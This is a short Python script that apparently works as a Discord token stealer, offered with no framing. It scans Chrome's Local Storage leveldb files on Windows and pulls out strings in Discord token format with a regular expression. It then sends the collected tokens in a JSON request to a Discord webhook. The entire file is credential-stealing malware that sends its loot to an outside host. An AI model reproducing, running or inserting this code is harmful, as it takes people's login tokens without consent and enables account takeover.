import os, re, json, urllib.request
LOCAL = os.getenv("LOCALAPPDATA")
paths = {"Chrome": LOCAL + "\\Google\\Chrome\\User Data\\Default"}
def grab(path):
    path += "\\Local Storage\\leveldb"
    out = []
    for f in os.listdir(path):
        for line in [x.strip() for x in open(f"{path}\\{f}", errors="ignore").readlines() if x.strip()]:
            for t in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
                out.append(t)
    return out
req = urllib.request.Request("https://discord.com/api/webhooks/1/x", data=json.dumps({"content": str(grab(paths["Chrome"]))}).encode(), headers={"Content-Type": "application/json"})
urllib.request.urlopen(req)